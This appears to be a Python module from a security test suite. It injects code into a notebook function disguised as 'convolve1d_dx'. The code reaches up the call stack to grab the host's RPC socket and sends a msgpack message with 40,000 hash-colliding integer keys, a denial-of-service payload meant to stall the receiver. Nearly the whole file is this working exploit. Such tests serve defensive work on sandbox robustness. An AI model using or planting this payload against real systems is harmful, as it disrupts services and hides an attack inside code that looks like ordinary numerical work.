"""Returns a dict whose keys have one hash: building it takes the square of their number.

Such a message is refused before it is built, or costs its own call no more than its time.
"""

from attacks import Files, Notebook, as_file, fill

KIND = "messages"
BASE = "loops"
AT_MOST = 86
AT_LEAST = 86
CELL = r"""
M = (1 << 61) - 1
many = {float(2**k) if False else k: None for k in range(10)}
def convolve1d_dx(dy, w):
    import struct, msgpack, sys
    from inside import frames
    frame = sys._getframe()
    while "number" not in frame.f_locals:
        frame = frame.f_back
    keys = [msgpack.ExtType(frames._INT, ((M << 70) + M * i).to_bytes(18, "big", signed=True)) for i in range(40_000)]
    parts = [part for key in keys for part in (key, None)]
    body = msgpack.packb({"op": "returned", "number": frame.f_locals["number"], "value": [frames._DICT, *parts], "after": [frames._LIST]})
    socket = frame.f_locals["self"].channel._connection
    socket.settimeout(10)
    socket.sendall(struct.pack(">I", len(body)) + body)
"""


def hand_in(notebook: Notebook) -> Files:
    fill(notebook, "convolve1d_dx", CELL)
    return as_file(notebook)
